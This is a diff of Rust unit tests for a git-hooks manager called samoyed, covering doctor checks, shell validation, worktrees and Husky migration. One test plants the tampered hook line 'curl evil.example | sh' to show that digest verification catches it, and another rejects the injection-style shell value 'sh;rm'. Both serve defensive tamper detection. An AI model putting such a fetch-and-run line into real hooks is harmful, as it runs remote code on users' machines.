+        let samoyed_dir = temp_dir.path().join(".samoyed");
+        let wrapper_path = samoyed_dir.join("_").join("samoyed");
+        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+        assert_eq!(read_wrapper_version(&wrapper_path), None);
 
-            // Check content
-            let content = fs::read_to_string(&hook_path).unwrap();
-            assert_eq!(
-                content,
-                r#"#!/usr/bin/env sh
-. "$(dirname "$0")/samoyed"
-"#
-            );
+        copy_wrapper_script(&samoyed_dir, false).unwrap();
+        assert_eq!(
+            read_wrapper_version(&wrapper_path).as_deref(),
+            Some(WRAPPER_VERSION)
+        );
+        assert_eq!(check_wrapper_script(&samoyed_dir).status, CheckStatus::Ok);
 
-            // Check permissions on Unix
-            #[cfg(unix)]
-            {
-                let metadata = fs::metadata(&hook_path).unwrap();
-                let mode = metadata.permissions().mode();
-                assert_eq!(
-                    mode & 0o777,
-                    0o755,
-                    "Hook {} should have 755 permissions",
-                    hook_name
-                );
-            }
-        }
+        fs::write(&wrapper_path, script.replace(WRAPPER_VERSION, "0.0.1")).unwrap();
+        assert_eq!(
+            read_wrapper_version(&wrapper_path).as_deref(),
+            Some("0.0.1")
+        );
+        let check = check_wrapper_script(&samoyed_dir);
+        assert_eq!(check.status, CheckStatus::Warn);
+        assert!(check.detail.contains("stale"));
+
+        fs::write(&wrapper_path, SAMOYED_WRAPPER_SCRIPT).unwrap();
+        assert_eq!(check_wrapper_script(&samoyed_dir).status, CheckStatus::Warn);
+
+        // Re-running the copy replaces the stale wrapper
+        copy_wrapper_script(&samoyed_dir, false).unwrap();
+        assert_eq!(
+            read_wrapper_version(&wrapper_path).as_deref(),
+            Some(WRAPPER_VERSION)
+        );
     }
 
-    /// Test create_sample_pre_commit function
+    /// Test init inside a linked worktree keeps core.hooksPath inside the worktree
     #[test]
-    fn test_create_sample_pre_commit() {
+    fn test_init_samoyed_linked_worktree() {
+        let git_repo = create_test_git_repo();
+        let worktree = TempDir::new().unwrap();
+        let worktree_path = worktree.path().join("wt");
+        let run_git = |args: &[&str]| {
+            let status = StdCommand::new("git")
+                .args(args)
+                .current_dir(git_repo.path())
+                .status()
+                .unwrap();
+            assert!(status.success());
+        };
+        run_git(&["commit", "--allow-empty", "-q", "-m", "initial"]);
+        run_git(&["worktree", "add", "-q", worktree_path.to_str().unwrap()]);
+
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(&worktree_path).unwrap();
+
+        assert!(is_linked_worktree().unwrap());
+        let report = init_samoyed(".samoyed", &InitOptions::default()).unwrap();
+        assert_eq!(report.hooks_path.as_deref(), Some(".samoyed/_"));
+        assert_eq!(get_git_hooks_path().unwrap().as_deref(), Some(".samoyed/_"));
+        assert!(worktree_path.join(".samoyed/_/pre-commit").is_file());
+        assert!(!git_repo.path().join(".samoyed").exists());
+
+        env::set_current_dir(git_repo.path()).unwrap();
+        assert!(!is_linked_worktree().unwrap());
+
+        env::set_current_dir(original_dir).unwrap();
+    }
+
+    /// Test doctor --verify flags generated scripts whose digest changed
+    #[test]
+    fn test_check_script_digests() {
         let temp_dir = TempDir::new().unwrap();
         let samoyed_dir = temp_dir.path().join(".samoyed");
-        fs::create_dir_all(&samoyed_dir).unwrap();
+        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+        copy_wrapper_script(&samoyed_dir, false).unwrap();
+        create_hook_scripts(
+            &samoyed_dir,
+            &["pre-commit", "pre-push"],
+            DEFAULT_HOOK_SHELL,
+            false,
+        )
+        .unwrap();
+
+        let check = check_script_digests(&samoyed_dir);
+        assert_eq!(check.status, CheckStatus::Ok);
+        assert_eq!(check.detail, "3 scripts verified");
+
+        let tampered = "#!/usr/bin/env sh\ncurl evil.example | sh\n";
+        let pre_push = samoyed_dir.join("_").join("pre-push");
+        fs::write(&pre_push, tampered).unwrap();
+        let check = check_script_digests(&samoyed_dir);
+        assert_eq!(check.status, CheckStatus::Fail);
+        assert!(check.detail.contains(&pre_push.display().to_string()));
+        assert!(
+            check
+                .detail
+                .contains(&sha256_hex(HOOK_SCRIPT_TEMPLATE.as_bytes()))
+        );
+        assert!(check.detail.contains(&sha256_hex(tampered.as_bytes())));
+        assert!(!check.detail.contains("pre-commit"));
+
+        // Stubs from --extra-hooks are verified too
+        fs::write(&pre_push, HOOK_SCRIPT_TEMPLATE).unwrap();
+        let deploy = samoyed_dir.join("_").join("deploy");
+        fs::write(&deploy, tampered).unwrap();
+        let check = check_script_digests(&samoyed_dir);
+        assert_eq!(check.status, CheckStatus::Fail);
+        assert!(check.detail.contains(&deploy.display().to_string()));
+        fs::write(&deploy, HOOK_SCRIPT_TEMPLATE).unwrap();
+        let check = check_script_digests(&samoyed_dir);
+        assert_eq!(check.status, CheckStatus::Ok);
+        assert_eq!(check.detail, "4 scripts verified");
+    }
 
-        let result = create_sample_pre_commit(&samoyed_dir);
-        assert!(result.is_ok());
+    /// Test doctor_samoyed before and after init
+    #[test]
+    fn test_doctor_samoyed() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        let pre_commit_path = samoyed_dir.join("pre-commit");
-        assert!(pre_commit_path.exists());
+        let result = doctor_samoyed(".samoyed", DoctorOptions::default());
+        assert!(result.is_err());
 
-        // Check content
-        let content = fs::read_to_string(&pre_commit_path).unwrap();
-        assert_eq!(
-            content,
-            r#"#!/usr/bin/env sh
-# Add your pre-commit checks here. For example:
-# echo "Running Samoyed sample pre-commit"
-# exit 0
-"#
+        init_samoyed(".samoyed", &InitOptions::default()).unwrap();
+        let checks = run_doctor_checks(".samoyed", DoctorOptions::default());
+        assert!(
+            checks.iter().all(|check| check.status == CheckStatus::Ok),
+            "{checks:?}"
         );
+        assert!(doctor_samoyed(".samoyed", DoctorOptions::default()).is_ok());
 
-        // Check permissions on Unix
-        #[cfg(unix)]
-        {
-            let metadata = fs::metadata(&pre_commit_path).unwrap();
-            let mode = metadata.permissions().mode();
-            assert_eq!(mode & 0o777, 0o644);
-        }
+        env::set_current_dir(original_dir).unwrap();
     }
 
-    /// Test create_gitignore function
+    /// Test doctor outside a git repository stops after the repository check
     #[test]
-    fn test_create_gitignore() {
+    fn test_doctor_not_in_repo() {
         let temp_dir = TempDir::new().unwrap();
-        let samoyed_dir = temp_dir.path().join(".samoyed");
-        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(temp_dir.path()).unwrap();
 
-        let result = create_gitignore(&samoyed_dir);
-        assert!(result.is_ok());
+        let checks = run_doctor_checks(".samoyed", DoctorOptions::default());
+        assert_eq!(checks.len(), 2);
+        assert_eq!(checks[1].name, "repository");
+        assert_eq!(checks[1].status, CheckStatus::Fail);
 
-        let gitignore_path = samoyed_dir.join("_").join(".gitignore");
-        assert!(gitignore_path.exists());
+        env::set_current_dir(original_dir).unwrap();
+    }
 
-        // Check content
-        let content = fs::read_to_string(&gitignore_path).unwrap();
-        assert_eq!(content, "*\n");
+    /// Test --quiet-if-installed leaves an up-to-date installation alone
+    #[test]
+    fn test_init_samoyed_quiet_if_installed() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        // Test that it doesn't overwrite existing file
-        fs::write(&gitignore_path, "custom content").unwrap();
-        let result = create_gitignore(&samoyed_dir);
-        assert!(result.is_ok());
+        let options = InitOptions {
+            quiet_if_installed: true,
+            ..InitOptions::default()
+        };
+
+        // Not installed yet: init acts
+        let actions = init_samoyed(".samoyed", &options).unwrap().actions;
+        assert!(!actions.is_empty());
+
+        // Already installed: nothing to do
+        let actions = init_samoyed(".samoyed", &options).unwrap().actions;
+        assert!(actions.is_empty());
+
+        // A missing hook script needs reinstalling
+        let hook_path = git_repo.path().join(".samoyed/_/commit-msg");
+        fs::remove_file(&hook_path).unwrap();
+        let actions = init_samoyed(".samoyed", &options).unwrap().actions;
+        assert!(!actions.is_empty());
+        assert!(hook_path.exists());
+
+        // A stale core.hooksPath needs reinstalling
+        StdCommand::new("git")
+            .args(["config", "core.hooksPath", ".husky/_"])
+            .current_dir(git_repo.path())
+            .output()
+            .unwrap();
+        let options = InitOptions {
+            force: true,
+            ..options
+        };
+        let actions = init_samoyed(".samoyed", &options).unwrap().actions;
+        assert!(!actions.is_empty());
+        assert_eq!(
+            read_hooks_path(git_repo.path()).as_deref(),
+            Some(".samoyed/_")
+        );
 
-        let content = fs::read_to_string(&gitignore_path).unwrap();
-        assert_eq!(content, "custom content");
+        env::set_current_dir(original_dir).unwrap();
     }
 
-    /// Test the CLI parsing
+    /// Test select_hooks validates names and keeps GIT_HOOKS order
     #[test]
-    fn test_cli_parsing() {
-        use clap::CommandFactory;
+    fn test_select_hooks() {
+        assert_eq!(select_hooks(None).unwrap(), GIT_HOOKS.to_vec());
+
+        let requested = vec![
+            "commit-msg".to_string(),
+            "pre-commit".to_string(),
+            "commit-msg".to_string(),
+        ];
+        assert_eq!(
+            select_hooks(Some(&requested)).unwrap(),
+            vec!["commit-msg", "pre-commit"]
+        );
 
-        // Test that the CLI can be constructed
-        let _cli = Cli::command();
+        let requested = vec!["pre-commit".to_string(), "pre-comit".to_string()];
+        let err = select_hooks(Some(&requested)).unwrap_err();
+        assert!(err.contains("'pre-comit'"));
+        assert!(err.contains("post-rewrite"));
+    }
 
-        // Test parsing init command
-        let cli = Cli::parse_from(["samoyed", "init"]);
+    /// Test parsing init --hooks as a comma-separated list
+    #[test]
+    fn test_cli_parsing_init_hooks() {
+        let cli = Cli::parse_from(["samoyed", "init", "--hooks", "pre-commit,commit-msg"]);
         match cli.command {
-            Some(Commands::Init { dirname }) => {
-                assert!(dirname.is_none());
+            Some(Commands::Init { hooks, .. }) => {
+                assert_eq!(
+                    hooks,
+                    Some(vec!["pre-commit".to_string(), "commit-msg".to_string()])
+                );
             }
             _ => panic!("Expected Init command"),
         }
+    }
 
-        // Test parsing init command with dirname
-        let cli = Cli::parse_from(["samoyed", "init", ".hooks"]);
-        match cli.command {
-            Some(Commands::Init { dirname }) => {
-                assert_eq!(dirname, Some(".hooks".to_string()));
-            }
-            _ => panic!("Expected Init command"),
+    /// Test --shell validation and the generated hook scripts
+    #[test]
+    fn test_hook_shell() {
+        assert_eq!(validate_shell("bash"), Ok("bash"));
+        assert_eq!(validate_shell("/bin/zsh"), Ok("/bin/zsh"));
+        for invalid in ["", "bash -x", "bin/bash", "/bin/", "sh;rm"] {
+            let err = validate_shell(invalid).unwrap_err();
+            assert!(err.starts_with(ERR_INVALID_SHELL), "{:?}", invalid);
         }
+
+        assert_eq!(hook_script(DEFAULT_HOOK_SHELL), HOOK_SCRIPT_TEMPLATE);
+        assert_eq!(
+            hook_script("bash"),
+            "#!/usr/bin/env bash\nsamoyed_shell=bash\n. \"$(dirname \"$0\")/samoyed\"\n"
+        );
+        assert!(hook_script("/bin/zsh").starts_with("#!/bin/zsh\nsamoyed_shell=/bin/zsh\n"));
+
+        assert_eq!(read_hook_shell(HOOK_SCRIPT_TEMPLATE), DEFAULT_HOOK_SHELL);
+        assert_eq!(read_hook_shell(&hook_script("bash")), "bash");
     }
 
-    /// Test get_git_root function when not in a git repo
+    /// Test init_samoyed writes hooks and the sample for the chosen shell
     #[test]
-    fn test_get_git_root_not_in_repo() {
-        let temp_dir = TempDir::new().unwrap();
+    fn test_init_samoyed_shell() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        let options = InitOptions {
+            shell: Some("bash".to_string()),
+            ..InitOptions::default()
+        };
+        init_samoyed(".samoyed", &options).unwrap();
+
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        let stub = fs::read_to_string(samoyed_dir.join("_").join("pre-push")).unwrap();
+        assert_eq!(stub, hook_script("bash"));
+        let sample = fs::read_to_string(samoyed_dir.join("pre-commit")).unwrap();
+        assert!(sample.starts_with("#!/usr/bin/env bash\n"));
+        assert_eq!(check_script_digests(&samoyed_dir).status, CheckStatus::Ok);
+
+        let options = InitOptions {
+            shell: Some("bash -e".to_string()),
+            ..InitOptions::default()
+        };
+        let err = init_samoyed(".samoyed", &options).unwrap_err();
+        assert!(err.to_string().starts_with(ERR_INVALID_SHELL));
+
+        env::set_current_dir(original_dir).unwrap();
+    }
 
-        // Change to temp directory
+    /// Test init warns about other hook managers and fails on them with --strict
+    #[test]
+    fn test_init_samoyed_other_hook_managers() {
+        let git_repo = create_test_git_repo();
         let original_dir = env::current_dir().unwrap();
-        env::set_current_dir(temp_dir.path()).unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        let result = get_git_root();
-        assert!(result.is_err());
+        let none_found = find_other_hook_managers(git_repo.path());
+        fs::write(git_repo.path().join("lefthook.yml"), "pre-commit:\n").unwrap();
+        fs::write(
+            git_repo.path().join(".pre-commit-config.yaml"),
+            "repos: []\n",
+        )
+        .unwrap();
+        let found = find_other_hook_managers(git_repo.path());
+
+        let mut options = InitOptions::default();
+        let advisory = init_samoyed(".samoyed", &options);
+        options.strict = true;
+        let strict = init_samoyed(".samoyed", &options);
+        options.ignore_hook_managers = true;
+        let ignored = init_samoyed(".samoyed", &options);
 
-        // Restore original directory
         env::set_current_dir(original_dir).unwrap();
+
+        assert!(none_found.is_empty());
+        assert_eq!(
+            found,
+            vec![
+                "Lefthook (lefthook.yml)",
+                "pre-commit (.pre-commit-config.yaml)"
+            ]
+        );
+        assert!(advisory.is_ok());
+        let err = strict.unwrap_err();
+        assert!(
+            err.to_string().starts_with(ERR_OTHER_HOOK_MANAGERS),
+            "{err}"
+        );
+        assert!(matches!(err, InitError::OtherHookManagers { found: f } if f == found));
+        assert!(ignored.is_ok());
     }
 
-    /// Test init_samoyed with bypass mode
+    /// Test init --check-git-identity warns by default and fails with --strict
     #[test]
-    fn test_init_samoyed_bypass() {
+    fn test_init_samoyed_check_git_identity() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
+
+        let cli = Cli::parse_from(["samoyed", "init", "--check-git-identity", "--strict"]);
+        assert!(matches!(
+            cli.command,
+            Some(Commands::Init {
+                check_git_identity: true,
+                strict: true,
+                ..
+            })
+        ));
+        // Other hook managers are always checked, so --strict works on its own
+        assert!(Cli::try_parse_from(["samoyed", "init", "--strict"]).is_ok());
+        assert!(
+            Cli::try_parse_from(["samoyed", "init", "--post-install", "true", "--strict"]).is_ok()
+        );
+
+        // The test repository configures both keys locally
+        assert!(missing_git_identity().unwrap().is_empty());
+
+        // Hide global and system config, then drop the local email
+        let empty_config = git_repo.path().join("empty.gitconfig");
+        fs::write(&empty_config, "").unwrap();
         unsafe {
-            env::set_var("SAMOYED", "0");
+            env::set_var("GIT_CONFIG_GLOBAL", &empty_config);
+            env::set_var("GIT_CONFIG_NOSYSTEM", "1");
         }
+        StdCommand::new("git")
+            .args(["config", "--unset", "user.email"])
+            .status()
+            .unwrap();
+        let missing = missing_git_identity();
 
-        let result = init_samoyed(".samoyed");
-        assert!(result.is_ok());
+        let mut options = InitOptions {
+            check_git_identity: true,
+            ..InitOptions::default()
+        };
+        let advisory = init_samoyed(".samoyed", &options);
+        options.strict = true;
+        let strict = init_samoyed(".samoyed", &options);
 
         unsafe {
-            env::remove_var("SAMOYED");
+            env::remove_var("GIT_CONFIG_GLOBAL");
+            env::remove_var("GIT_CONFIG_NOSYSTEM");
         }
+        env::set_current_dir(original_dir).unwrap();
+
+        assert_eq!(missing.unwrap(), vec!["user.email"]);
+        assert!(advisory.is_ok());
+        let err = strict.unwrap_err();
+        assert!(err.to_string().starts_with(ERR_GIT_IDENTITY_MISSING));
+        assert!(
+            matches!(err, InitError::GitIdentityMissing { missing } if missing == ["user.email"])
+        );
     }
 
-    /// Test init_samoyed when not in git repo
+    /// Test init --post-install runs from the git root and only warns on failure
     #[test]
-    fn test_init_samoyed_not_in_repo() {
-        let temp_dir = TempDir::new().unwrap();
+    fn test_init_samoyed_post_install() {
+        let git_repo = create_test_git_repo();
         let original_dir = env::current_dir().unwrap();
-        env::set_current_dir(temp_dir.path()).unwrap();
+        let subdir = git_repo.path().join("src");
+        fs::create_dir(&subdir).unwrap();
+        env::set_current_dir(&subdir).unwrap();
 
-        let result = init_samoyed(".samoyed");
-        assert!(result.is_err());
-        let err_msg = result.unwrap_err();
-        assert!(err_msg.contains("Not a git repository"));
+        let mut options = InitOptions {
+            post_install: Some("touch post-install-ran".to_string()),
+            ..InitOptions::default()
+        };
+        let succeeded = init_samoyed(".samoyed", &options);
 
-        env::set_current_dir(&original_dir).unwrap();
-    }
+        options.post_install = Some("exit 3".to_string());
+        let advisory = init_samoyed(".samoyed", &options);
+        options.strict = true;
+        let strict = init_samoyed(".samoyed", &options);
 
-    /// Helper function to create a test git repository
-    fn create_test_git_repo() -> TempDir {
-        let temp_dir = TempDir::new().expect("Failed to create temporary directory");
+        options.dry_run = true;
+        options.post_install = Some("touch dry-run-ran".to_string());
+        let dry_run = init_samoyed(".samoyed", &options);
 
-        // Verify the temp directory exists before proceeding
+        env::set_current_dir(original_dir).unwrap();
+
+        assert!(succeeded.is_ok());
+        assert!(git_repo.path().join("post-install-ran").exists());
+        assert!(advisory.is_ok());
+        let err = strict.unwrap_err();
+        assert!(err.to_string().starts_with(ERR_POST_INSTALL_FAILED));
         assert!(
-            temp_dir.path().exists(),
-            "Temporary directory does not exist: {:?}",
-            temp_dir.path()
+            matches!(err, InitError::PostInstallFailed { reason } if reason.contains("exited with code 3"))
         );
+        assert!(dry_run.is_ok());
+        assert!(!git_repo.path().join("dry-run-ran").exists());
+    }
 
-        // Initialize git repo
-        let init_output = StdCommand::new("git")
-            .args(["init"])
-            .current_dir(temp_dir.path())
-            .output()
-            .expect("Failed to execute git init command");
+    /// Test init_samoyed only installs the selected hooks
+    #[test]
+    fn test_init_samoyed_hook_subset() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        if !init_output.status.success() {
-            panic!(
-                "Failed to init git repo: {}",
-                String::from_utf8_lossy(&init_output.stderr)
+        let options = InitOptions {
+            hooks: Some(vec!["pre-commit".to_string(), "commit-msg".to_string()]),
+            ..InitOptions::default()
+        };
+        init_samoyed(".samoyed", &options).unwrap();
+
+        let wrapper_dir = git_repo.path().join(".samoyed/_");
+        for hook_name in GIT_HOOKS {
+            let expected = *hook_name == "pre-commit" || *hook_name == "commit-msg";
+            assert_eq!(
+                wrapper_dir.join(hook_name).exists(),
+                expected,
+                "{hook_name}"
             );
         }
+        assert_eq!(
+            check_hook_stubs(&git_repo.path().join(".samoyed")).status,
+            CheckStatus::Ok
+        );
 
-        // Configure git user (required for some operations)
-        let email_output = StdCommand::new("git")
-            .args(["config", "user.email", "test@example.com"])
-            .current_dir(temp_dir.path())
-            .output()
-            .expect("Failed to execute git config user.email command");
+        let options = InitOptions {
+            hooks: Some(vec!["pre-comit".to_string()]),
+            ..InitOptions::default()
+        };
+        assert!(init_samoyed(".samoyed", &options).is_err());
 
-        if !email_output.status.success() {
-            panic!(
-                "Failed to set git user email: {}",
-                String::from_utf8_lossy(&email_output.stderr)
-            );
-        }
+        env::set_current_dir(original_dir).unwrap();
+    }
 
-        let name_output = StdCommand::new("git")
-            .args(["config", "user.name", "Test User"])
-            .current_dir(temp_dir.path())
-            .output()
-            .expect("Failed to execute git config user.name command");
+    /// Test doctor --git-hooks-coexist warns about stray native hooks
+    #[test]
+    fn test_doctor_git_hooks_coexist() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        if !name_output.status.success() {
-            panic!(
-                "Failed to set git user name: {}",
-                String::from_utf8_lossy(&name_output.stderr)
-            );
-        }
+        init_samoyed(".samoyed", &InitOptions::default()).unwrap();
+        let options = DoctorOptions {
+            git_hooks_coexist: true,
+            ..DoctorOptions::default()
+        };
 
-        // Verify the git repo was created successfully
-        let verify_output = StdCommand::new("git")
-            .args(["rev-parse", "--is-inside-work-tree"])
-            .current_dir(temp_dir.path())
-            .output()
-            .expect("Failed to verify git repository");
+        let checks = run_doctor_checks(".samoyed", options);
+        assert_eq!(checks.last().unwrap().status, CheckStatus::Ok);
 
-        if !verify_output.status.success() {
-            panic!(
-                "Git repository verification failed: {}",
-                String::from_utf8_lossy(&verify_output.stderr)
-            );
-        }
+        create_native_hook(git_repo.path(), "pre-commit", "#!/bin/sh\nexit 0\n");
+        create_native_hook(git_repo.path(), "pre-push.sample", "#!/bin/sh\n");
+        let checks = run_doctor_checks(".samoyed", options);
+        let check = checks.last().unwrap();
+        assert_eq!(check.status, CheckStatus::Warn);
+        assert!(check.detail.ends_with(": pre-commit"), "{}", check.detail);
+        assert!(check.hint.is_some());
 
-        temp_dir
+        // Warnings do not fail the doctor run
+        assert!(doctor_samoyed(".samoyed", options).is_ok());
+
+        env::set_current_dir(original_dir).unwrap();
     }
 
-    /// Test full init_samoyed function in a git repo
+    /// Test strip_husky_preamble removes the husky.sh source line
     #[test]
-    fn test_init_samoyed_full() {
-        let git_repo = create_test_git_repo();
-        let original_dir = env::current_dir().unwrap();
-        assert!(
-            git_repo.path().exists(),
-            "Git repo directory should exist: {:?}",
-            git_repo.path()
+    fn test_strip_husky_preamble() {
+        let script = "#!/usr/bin/env sh\n. \"$(dirname -- \"$0\")/_/husky.sh\"\n\nnpm test\n";
+        assert_eq!(
+            strip_husky_preamble(script),
+            "#!/usr/bin/env sh\nnpm test\n"
         );
-        env::set_current_dir(git_repo.path()).unwrap_or_else(|e| {
-            panic!(
-                "Failed to change to git repo directory {:?}: {}",
-                git_repo.path(),
-                e
-            )
-        });
-
-        // Run init
-        let result = init_samoyed(".samoyed");
-        assert!(result.is_ok());
 
-        // Verify directory structure
-        let samoyed_dir = git_repo.path().join(".samoyed");
-        assert!(samoyed_dir.exists());
-        assert!(samoyed_dir.join("_").exists());
+        // Husky v9 scripts have no preamble
+        assert_eq!(strip_husky_preamble("npm test\n"), "npm test\n");
+    }
 
-        // Verify wrapper script
-        let wrapper_path = samoyed_dir.join("_").join("samoyed");
-        assert!(wrapper_path.exists());
+    /// Test migrate_samoyed imports Husky hooks and initializes Samoyed
+    #[test]
+    fn test_migrate_samoyed() {
+        let git_repo = create_test_git_repo();
+        let original_dir = env::current_dir().unwrap();
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        // Verify sample pre-commit
-        let pre_commit_path = samoyed_dir.join("pre-commit");
-        assert!(pre_commit_path.exists());
+        // No .husky directory: nothing happens
+        migrate_samoyed(".samoyed").unwrap();
+        assert!(!git_repo.path().join(".samoyed").exists());
+
+        let husky_dir = git_repo.path().join(".husky");
+        fs::create_dir_all(husky_dir.join("_")).unwrap();
+        fs::write(
+            husky_dir.join("pre-commit"),
+            "#!/usr/bin/env sh\n. \"$(dirname -- \"$0\")/_/husky.sh\"\n\nnpm test\n",
+        )
+        .unwrap();
+        fs::write(
+            husky_dir.join("commit-msg"),
+            "npx commitlint --edit \"$1\"\n",
+        )
+        .unwrap();
+        fs::write(husky_dir.join("README"), "not a hook\n").unwrap();
+
+        migrate_samoyed(".samoyed").unwrap();
 
-        // Verify all hook scripts
-        for hook_name in GIT_HOOKS {
-            let hook_path = samoyed_dir.join("_").join(hook_name);
-            assert!(hook_path.exists(), "Hook {} should exist", hook_name);
-        }
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        assert_eq!(
+            fs::read_to_string(samoyed_dir.join("pre-commit")).unwrap(),
+            "#!/usr/bin/env sh\nnpm test\n"
+        );
+        assert_eq!(
+            fs::read_to_string(samoyed_dir.join("commit-msg")).unwrap(),
+            "npx commitlint --edit \"$1\"\n"
+        );
+        assert!(!samoyed_dir.join("README").exists());
+        assert_eq!(
+            read_hooks_path(git_repo.path()).as_deref(),
+            Some(".samoyed/_")
+        );
 
-        // Verify .gitignore
-        let gitignore_path = samoyed_dir.join("_").join(".gitignore");
-        assert!(gitignore_path.exists());
+        // A core.hooksPath owned by another tool is refused before copying
+        fs::remove_dir_all(&samoyed_dir).unwrap();
+        StdCommand::new("git")
+            .args(["config", "core.hooksPath", ".githooks"])
+            .output()
+            .unwrap();
+        let foreign = migrate_samoyed(".samoyed");
+        let copied_despite_conflict = samoyed_dir.exists();
 
-        // Verify git config was set
-        let output = StdCommand::new("git")
-            .args(["config", "core.hooksPath"])
-            .current_dir(git_repo.path())
+        // Husky's own core.hooksPath is replaced
+        StdCommand::new("git")
+            .args(["config", "core.hooksPath", ".husky/_"])
             .output()
             .unwrap();
+        let from_husky = migrate_samoyed(".samoyed");
+        let hooks_path = read_hooks_path(git_repo.path());
 
-        let hooks_path = String::from_utf8_lossy(&output.stdout).trim().to_string();
-        assert!(!hooks_path.is_empty());
+        env::set_current_dir(original_dir).unwrap();
 
-        let hooks_path_buf = PathBuf::from(&hooks_path);
-        let expected_hooks = samoyed_dir.join("_");
-        let hooks_canonical = canonicalize_allowing_nonexistent(&hooks_path_buf)
-            .expect("failed to canonicalize hooks path");
-        let expected_canonical = canonicalize_allowing_nonexistent(&expected_hooks)
-            .expect("failed to canonicalize expected hooks path");
-        assert_eq!(hooks_canonical, expected_canonical);
+        assert!(
+            foreign
+                .as_ref()
+                .is_err_and(|e| e.starts_with(ERR_HOOKS_PATH_CONFLICT)),
+            "{foreign:?}"
+        );
+        assert!(!copied_despite_conflict);
+        assert!(from_husky.is_ok(), "{from_husky:?}");
+        assert_eq!(hooks_path.as_deref(), Some(".samoyed/_"));
+        assert_eq!(
+            fs::read_to_string(samoyed_dir.join("pre-commit")).unwrap(),
+            "#!/usr/bin/env sh\nnpm test\n"
+        );
+    }
 
-        env::set_current_dir(original_dir).unwrap();
+    /// Test migrate_husky_hooks keeps existing user scripts
+    #[test]
+    fn test_migrate_husky_hooks_keeps_existing() {
+        let temp_dir = TempDir::new().unwrap();
+        let husky_dir = temp_dir.path().join(".husky");
+        let samoyed_dir = temp_dir.path().join(".samoyed");
+        fs::create_dir_all(&husky_dir).unwrap();
+        fs::create_dir_all(&samoyed_dir).unwrap();
+        fs::write(husky_dir.join("pre-push"), "npm test\n").unwrap();
+        fs::write(samoyed_dir.join("pre-push"), "cargo test\n").unwrap();
+
+        let reports = migrate_husky_hooks(&husky_dir, &samoyed_dir).unwrap();
+        assert_eq!(reports.len(), 1);
+        assert!(reports[0].starts_with("Skipped"));
+        assert_eq!(
+            fs::read_to_string(samoyed_dir.join("pre-push")).unwrap(),
+            "cargo test\n"
+        );
     }
 
-    /// Test init_samoyed with custom directory name
+    /// Test set_git_hooks_path reports a value shadowed by another config source
     #[test]
-    fn test_init_samoyed_custom_dir() {
+    fn test_set_git_hooks_path_shadowed() {
         let git_repo = create_test_git_repo();
         let original_dir = env::current_dir().unwrap();
-        assert!(
-            git_repo.path().exists(),
-            "Git repo directory should exist: {:?}",
-            git_repo.path()
-        );
-        env::set_current_dir(git_repo.path()).unwrap_or_else(|e| {
-            panic!(
-                "Failed to change to git repo directory {:?}: {}",
-                git_repo.path(),
-                e
-            )
-        });
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        // Run init with custom directory
-        let result = init_samoyed(".hooks");
-        assert!(result.is_ok());
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
 
-        // Verify custom directory was created
-        let hooks_dir = git_repo.path().join(".hooks");
-        assert!(hooks_dir.exists());
-        assert!(hooks_dir.join("_").exists());
+        // GIT_CONFIG_* environment overrides take precedence over local config
+        unsafe {
+            env::set_var("GIT_CONFIG_COUNT", "1");
+            env::set_var("GIT_CONFIG_KEY_0", "core.hooksPath");
+            env::set_var("GIT_CONFIG_VALUE_0", "/elsewhere/hooks");
+        }
+        let result = set_git_hooks_path(git_repo.path(), &samoyed_dir, false);
+        unsafe {
+            env::remove_var("GIT_CONFIG_COUNT");
+            env::remove_var("GIT_CONFIG_KEY_0");
+            env::remove_var("GIT_CONFIG_VALUE_0");
+        }
+
+        let err = result.unwrap_err();
+        assert!(err.starts_with(ERR_HOOKS_PATH_NOT_APPLIED), "{err}");
+        assert!(err.contains("/elsewhere/hooks"), "{err}");
 
         env::set_current_dir(original_dir).unwrap();
     }
 
-    /// Test init_samoyed idempotency (running it twice)
+    /// Test set_git_hooks_path retries while .git/config is locked
     #[test]
-    fn test_init_samoyed_idempotent() {
+    fn test_set_git_hooks_path_config_locked() {
         let git_repo = create_test_git_repo();
         let original_dir = env::current_dir().unwrap();
-        assert!(
-            git_repo.path().exists(),
-            "Git repo directory should exist: {:?}",
-            git_repo.path()
-        );
-        env::set_current_dir(git_repo.path()).unwrap_or_else(|e| {
-            panic!(
-                "Failed to change to git repo directory {:?}: {}",
-                git_repo.path(),
-                e
-            )
-        });
+        env::set_current_dir(git_repo.path()).unwrap();
 
-        // Run init first time
-        let result1 = init_samoyed(".samoyed");
-        assert!(result1.is_ok());
+        let samoyed_dir = git_repo.path().join(".samoyed");
+        fs::create_dir_all(samoyed_dir.join("_")).unwrap();
+        let lock_path = git_repo.path().join(".git").join("config.lock");
+
+        // A lock released during the backoff is waited out
+        fs::write(&lock_path, "").unwrap();
+        let release = {
+            let lock_path = lock_path.clone();
+            thread::spawn(move || {
+                thread::sleep(Duration::from_millis(100));
+                fs::remove_file(lock_path).unwrap();
+            })
+        };
+        let released = set_git_hooks_path(git_repo.path(), &samoyed_dir, false);
+        release.join().unwrap();
+
+        // A lock that is never released fails with git's message
+        fs::write(&lock_path, "").unwrap();
+        let held = set_git_hooks_path(git_repo.path(), &samoyed_dir, false);
+        fs::remove_file(&lock_path).unwrap();
 
-        // Run init second time
